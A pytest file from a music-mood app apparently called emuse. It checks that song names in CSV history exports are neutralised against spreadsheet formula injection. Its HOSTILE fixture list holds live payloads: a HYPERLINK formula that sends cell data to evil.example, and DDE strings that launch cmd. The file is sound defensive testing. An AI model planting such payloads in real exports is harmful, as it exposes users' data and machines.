"""Formula injection: song names from anyone's playlist never run as spreadsheet formulas when exported."""

from __future__ import annotations

import csv
import io

import pytest

from emuse import cli
from emuse.history import charts
from emuse.history.schema import spreadsheet_safe
from emuse.history.store import HistoryStore
from tests.support.moods import mood

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _store_with_hostile_songs(store: HistoryStore) -> None:
    store.add_mood("web-1", "live", mood("happy"))
    for i, name in enumerate(HOSTILE):
        store.add_song("web-1", "happy", f"t{i}", name, [name], "https://open.spotify.com/track/t")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    assert cells, "nothing was exported"
    starting = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert starting == [], starting


def test_history_export_neutralises_formulas(store: HistoryStore, capsys: pytest.CaptureFixture) -> None:
    _store_with_hostile_songs(store)
    assert cli.main(["history", "export"]) == 0
    cells = _cells(capsys.readouterr().out)
    _assert_no_formula(cells)
    assert "'" + HOSTILE[0] in cells and "'-2+3" in cells  # kept, readable, as text


def test_the_pages_csv_download_neutralises_formulas(store: HistoryStore) -> None:
    _store_with_hostile_songs(store)
    cells = _cells(charts.export_csv(store.moods(), store.songs()).decode("utf-8"))
    _assert_no_formula(cells)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert spreadsheet_safe(-0.5) == -0.5
    assert spreadsheet_safe("Someone Like You") == "Someone Like You"
    assert spreadsheet_safe("=1") == "'=1"
